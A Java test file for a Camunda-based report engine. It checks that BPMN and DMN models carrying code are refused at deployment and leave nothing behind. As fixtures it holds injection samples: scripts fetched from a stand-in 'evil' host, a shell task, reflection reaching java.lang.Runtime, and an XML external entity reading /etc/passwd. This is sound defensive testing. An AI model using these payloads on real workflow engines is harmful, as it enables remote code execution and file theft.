package org.reportchain.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.rest.exception.RestException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.context.ActiveProfiles;

/** Models that would run code are refused when they are deployed, whatever way they have found, and nothing stays. */
@SpringBootTest(
        properties = {
            "spring.datasource.url=jdbc:h2:mem:evil-models;DB_CLOSE_DELAY=-1",
            "camunda.bpm.job-execution.enabled=false",
            "report-chain.demo.reports=false"
        })
@ActiveProfiles("demo")
class EvilModelsTest {

    private static final String PROCESS = """
            <?xml version="1.0" encoding="UTF-8"?>
            <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" \
            xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:old="http://activiti.org/bpmn" \
            xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" targetNamespace="evil">
              %s<bpmn:process id="evil" isExecutable="true" camunda:historyTimeToLive="P1D">
                <bpmn:startEvent id="begin" />
                <bpmn:sequenceFlow id="flow" sourceRef="begin" targetRef="evilTask">%s</bpmn:sequenceFlow>
                %s
              </bpmn:process>
            </bpmn:definitions>
            """;

    private static final String DECISION = """
            <?xml version="1.0" encoding="UTF-8"?>
            <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="evil" name="evil" namespace="evil">
              <decision id="evilDecision" name="evil">
                <decisionTable id="table">
                  <input id="input"><inputExpression id="evilInput" typeRef="string"%s><text>%s</text></inputExpression></input>
                  <output id="output" name="o" typeRef="string" />
                  <rule id="rule"><inputEntry id="evilTest"><text>%s</text></inputEntry>
                    <outputEntry id="evilOutput"><text>%s</text></outputEntry></rule>
                </decisionTable>
              </decision>
            </definitions>
            """;

    private final RepositoryService repository;

    @Autowired
    EvilModelsTest(RepositoryService repository) {
        this.repository = repository;
    }

    static Stream<Arguments> evilProcesses() {
        return Stream.of(
                evil(
                        "a script task",
                        "<bpmn:scriptTask id='evilTask' scriptFormat='javascript'><bpmn:script>1</bpmn:script></bpmn:scriptTask>"),
                evil(
                        "a script task with a script from elsewhere",
                        "<bpmn:scriptTask id='evilTask' scriptFormat='groovy' camunda:resource='http://evil/x.groovy' />"),
                evil(
                        "a script in a task listener",
                        user(
                                extensions(
                                        "<camunda:taskListener event='create'><camunda:script scriptFormat='groovy'>1</camunda:script></camunda:taskListener>"))),
                evil(
                        "a script in an execution listener",
                        user(
                                extensions(
                                        "<camunda:executionListener event='start'><camunda:script scriptFormat='groovy' resource='x.groovy' /></camunda:executionListener>"))),
                evil(
                        "a script in an input parameter",
                        user(
                                extensions(
                                        "<camunda:inputOutput><camunda:inputParameter name='x'><camunda:script scriptFormat='groovy'>1</camunda:script></camunda:inputParameter></camunda:inputOutput>"))),
                evil(
                        "a script in an output parameter",
                        user(
                                extensions(
                                        "<camunda:inputOutput><camunda:outputParameter name='x'><camunda:map><camunda:entry key='a'><camunda:script scriptFormat='groovy'>1</camunda:script></camunda:entry></camunda:map></camunda:outputParameter></camunda:inputOutput>"))),
                evil(
                        "a shell task",
                        service(
                                "camunda:type='shell'",
                                extensions(
                                        "<camunda:field name='command'><camunda:string>id</camunda:string></camunda:field>"))),
                evil("a shell task in the old namespace", service("old:type='shell'", "")),
                evil("a mail task", service("camunda:type='mail'", "")),
                evil("an external task", service("camunda:type='external' camunda:topic='x'", "")),
                evil(
                        "a connector",
                        service(
                                "",
                                extensions(
                                        "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"))),
                evil("a class", service("camunda:class='java.lang.Runtime'", "")),
                evil("a class in the old namespace", service("old:class='java.lang.Runtime'", "")),
                evil(
                        "a class as task listener",
                        user(extensions("<camunda:taskListener event='create' class='evil.Listener' />"))),
                evil(
                        "a class as execution listener",
                        user(extensions("<camunda:executionListener event='start' class='evil.Listener' />"))),
                evil("a class that handles the form", user("camunda:formHandlerClass='evil.Handler'", "")),
                evil(
                        "a class that maps variables",
                        "<bpmn:callActivity id='evilTask' calledElement='district-report' camunda:variableMappingClass='evil.Mapping' />"),
                evil(
                        "a class that validates a field",
                        user(
                                extensions(
                                        "<camunda:formData><camunda:formField id='f' type='string'><camunda:validation><camunda:constraint name='validator' config='evil.Validator' /></camunda:validation></camunda:formField></camunda:formData>"))),
                evil("a delegate that is no delegate", service("camunda:delegateExpression='${dataSource}'", "")),
                evil(
                        "a delegate made by an expression",
                        service(
                                "camunda:delegateExpression=\"${''.getClass().forName('evil.Delegate').newInstance()}\"",
                                "")),
                evil("a bean that is not for models", service("camunda:expression='${environment}'", "")),
                evil(
                        "a method of a bean that is not for models",
                        service("camunda:expression='${jdbcClient.sql(x)}'", "")),
                evil(
                        "a method that models may not call of a bean that they may",
                        service("camunda:expression=\"${reviewRounds.close(1)}\"", "")),
                evil("reflection", service("camunda:expression=\"${''.getClass().forName('java.lang.Runtime')}\"", "")),
                evil("reflection by property", service("camunda:expression='${execution.class.classLoader}'", "")),
                evil("reflection by index", service("camunda:expression=\"${execution['class']}\"", "")),
                evil("reflection in a name", user("name=\"${x.getClass()}\"", "")),
                evil(
                        "reflection in an argument",
                        service("camunda:expression=\"${reviewRounds.isDecided(''.getClass())}\"", "")),
                evil(
                        "the engine's services",
                        service("camunda:expression='#{execution.processEngineServices.runtimeService}'", "")),
                evil("an escaped expression", service("camunda:expression=\"&#36;{''.getClass()}\"", "")),
                evil(
                        "an expression in a character section",
                        user("<bpmn:documentation>$<![CDATA[{x.getClass()}]]></bpmn:documentation>")),
                evil("a form from elsewhere", user("camunda:formKey='embedded:app:../secret.html'", "")),
                evil(
                        "a form outside the folder of forms",
                        user("camunda:formKey='embedded:deployment:forms/../x.html'", "")),
                evil("a form by reference", user("camunda:formRef='x' camunda:formRefBinding='latest'", "")),
                Arguments.of(
                        "a script as condition",
                        process(
                                "",
                                "<bpmn:conditionExpression xsi:type='bpmn:tFormalExpression' language='groovy'>true</bpmn:conditionExpression>",
                                user("")),
                        "flow"),
                Arguments.of(
                        "reflection as condition",
                        process(
                                "",
                                "<bpmn:conditionExpression xsi:type='bpmn:tFormalExpression'>${x.getClass() == y}</bpmn:conditionExpression>",
                                user("")),
                        "flow"),
                Arguments.of(
                        "a document from elsewhere",
                        process(
                                "<bpmn:import importType='http://schemas.xmlsoap.org/wsdl/' location='http://evil/x.wsdl' namespace='x' />",
                                "",
                                user("")),
                        "import"));
    }

    static Stream<Arguments> evilDecisions() {
        String reflection = "''.getClass().forName('java.lang.Runtime')";
        return Stream.of(
                Arguments.of("reflection as input", DECISION.formatted("", reflection, "-", "\"x\""), "evilInput"),
                Arguments.of(
                        "reflection as test",
                        DECISION.formatted("", "level", "${" + reflection + "}", "\"x\""),
                        "evilTest"),
                Arguments.of("reflection as output", DECISION.formatted("", "level", "-", reflection), "evilOutput"),
                Arguments.of(
                        "a hidden bean as output", DECISION.formatted("", "level", "-", "environment"), "evilOutput"),
                Arguments.of(
                        "a script language",
                        DECISION.formatted(" expressionLanguage='groovy'", "level", "-", "1"),
                        "evilInput"),
                Arguments.of(
                        "Java called from FEEL",
                        DECISION.formatted(
                                "", "level", "-", "function(x) external { java: { class: \"java.lang.Math\" } }"),
                        "evilOutput"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("evilProcesses")
    void processWithCodeIsRefusedByNameAndNothingStays(String what, String model, String element) {
        refused("evil.bpmn", model, "evil.bpmn, phần tử " + element + ": ");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("evilDecisions")
    void decisionWithCodeIsRefusedByNameAndNothingStays(String what, String model, String element) {
        refused("evil.dmn", model, "evil.dmn, phần tử");
        refused("evil.dmn", model, element);
    }

    @Test
    void thereAreAtLeastThirtyWays() {
        assertThat(evilProcesses().count() + evilDecisions().count()).isGreaterThanOrEqualTo(30);
    }

    @Test
    void sameModelsWithoutTheCodeAreAccepted() {
        String process = process("", "", user("name='${member}'", ""));
        String decision = DECISION.formatted("", "level", "\"CITY\"", "\"x\"");
        String deployment = repository
                .createDeployment()
                .addString("evil.bpmn", process)
                .addString("evil.dmn", decision)
                .deploy()
                .getId();
        repository.deleteDeployment(deployment);
    }

    @Test
    void externalEntityIsRefused() {
        String model = process("", "", user("name='&secret;'", ""))
                .replace("?>\n", "?>\n<!DOCTYPE x [<!ENTITY secret SYSTEM 'file:///etc/passwd'>]>\n");
        refused("evil.bpmn", model, "DOCTYPE");
        refused(
                "evil.dmn",
                DECISION.formatted("", "level", "-", "1").replace("?>\n", "?>\n<!DOCTYPE x []>\n"),
                "DOCTYPE");
    }

    @Test
    void codeHidesInNoOtherEncoding() {
        String model =
                process("", "", service("camunda:class='evil.Delegate'", "")).replace("UTF-8", "UTF-16");
        refused("evil.bpmn", model, StandardCharsets.UTF_16, "evilTask");
    }

    @Test
    void caseModelIsRefused() {
        refused("evil.cmmn", "<definitions xmlns='http://www.omg.org/spec/CMMN/20151109/MODEL' />", "CMMN");
    }

    private void refused(String name, String model, String saying) {
        refused(name, model, StandardCharsets.UTF_8, saying);
    }

    private void refused(String name, String model, Charset encoding, String saying) {
        long deployments = repository.createDeploymentQuery().count();
        long definitions = repository.createProcessDefinitionQuery().count()
                + repository.createDecisionDefinitionQuery().count();

        assertThatThrownBy(() -> repository
                        .createDeployment()
                        .addInputStream(name, new ByteArrayInputStream(model.getBytes(encoding)))
                        .deploy())
                .isInstanceOf(RestException.class)
                .hasMessageContaining(saying)
                .hasMessageContaining("Hãy ");

        assertThat(repository.createDeploymentQuery().count()).isEqualTo(deployments);
        assertThat(repository.createProcessDefinitionQuery().count()
                        + repository.createDecisionDefinitionQuery().count())
                .isEqualTo(definitions);
    }

    private static Arguments evil(String what, String task) {
        return Arguments.of(what, process("", "", task), "evilTask");
    }

    private static String process(String before, String condition, String task) {
        return PROCESS.formatted(before, condition, task);
    }

    private static String user(String inside) {
        return user("", inside);
    }

    private static String user(String attributes, String inside) {
        return "<bpmn:userTask id='evilTask' " + attributes + ">" + inside + "</bpmn:userTask>";
    }

    private static String service(String attributes, String inside) {
        return "<bpmn:serviceTask id='evilTask' " + attributes + ">" + inside + "</bpmn:serviceTask>";
    }

    private static String extensions(String inside) {
        return "<bpmn:extensionElements>" + inside + "</bpmn:extensionElements>";
    }
}
